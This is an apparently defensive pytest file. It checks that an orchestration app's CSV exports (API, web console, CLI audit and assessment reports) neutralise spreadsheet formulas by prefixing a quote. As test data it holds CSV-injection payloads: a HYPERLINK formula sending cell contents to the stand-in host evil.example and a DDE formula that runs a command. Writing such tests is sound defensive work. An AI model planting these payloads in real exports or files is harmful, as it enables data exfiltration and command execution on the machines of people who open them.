"""Every CSV export neutralises spreadsheet formulas (OWASP CSV injection): a text cell that
begins with = + - @ tab or CR gets a leading ', so a spreadsheet shows it as text."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest
from fastapi.testclient import TestClient

from orchestrator.bootstrap import make_app
from orchestrator.domain.spreadsheet import safe_cell
from orchestrator.usecases import users
from orchestrator.usecases.unit_of_work import UnitOfWork
from tests.conftest import approve_all, drain
from tests.test_console import console, signed_in  # noqa: F401  (the console fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"  # a formula with no link in it: an 发布机构 passes the checks
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("cell", ["=1+1", "+8613800000000", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  HOSTILE])
def test_a_text_cell_that_could_be_a_formula_is_quoted(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["省人民政府办公厅", "", "1+1", "a=b", "'quoted", None, 0, -5,
                                  -1.25, 3.5])
def test_other_cells_and_numbers_stay_as_they_are(cell):
    assert safe_cell(cell) == cell  # a negative number in a numeric column stays a number


def no_formula(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    assert cells, "the export is empty"
    assert not [c for c in cells if c.startswith(TRIGGERS)], cells


def hostile_user(ctx) -> None:
    with UnitOfWork(ctx) as uow:
        users.add_user(uow, HOSTILE, ["auditor"])


def test_api_audit_export(ctx, people):
    hostile_user(ctx)
    http = TestClient(make_app(ctx))
    text = http.get("/api/v1/audit/export", params={"format": "csv"},
                    headers={"Authorization": f"Bearer {people['auditor']}"}).text
    rows = list(csv.reader(io.StringIO(text)))
    assert any("'" + HOSTILE in row for row in rows)
    no_formula(rows)


def test_console_audit_export(console):  # noqa: F811
    hostile_user(console)
    auditor, _ = signed_in(console, "auditor")
    text = auditor.get("/console/audit/export.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert any("'" + HOSTILE in row for row in rows)
    no_formula(rows)


def run_cli(settings, *args: str) -> str:
    env = {**os.environ, "TONGFA_VAR_DIR": str(settings.var_dir),
           "TONGFA_DATABASE_URL": settings.resolved_database_url}
    env.pop("TONGFA_BROKER_URL", None)
    result = subprocess.run([sys.executable, "-m", "orchestrator.cli.main", *args],
                            capture_output=True, text=True, env=env, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_cli_audit_and_assessment_exports(ctx, settings, new_release):
    from orchestrator.domain.clock import utcnow

    hostile_user(ctx)
    rid = new_release(metadata={"index_number": "1", "issuing_body": DDE,
                                "disclosure": "主动公开"})
    approve_all(ctx, rid)
    drain(ctx)
    audit_rows = list(csv.reader(io.StringIO(run_cli(settings, "audit", "query", "--csv"))))
    assert any("'" + HOSTILE in row for row in audit_rows)  # the user's name
    no_formula(audit_rows)
    now = utcnow()
    quarter = f"{now.year}Q{(now.month - 1) // 3 + 1}"
    report = list(csv.DictReader(io.StringIO(run_cli(settings, "report", "assessment",
                                                     "--quarter", quarter, "--csv"))))
    assert {r["department"] for r in report} == {"'" + DDE}
    assert all(r["published"] == "1" for r in report)  # numbers stay numbers
    no_formula([list(r.values()) for r in report])
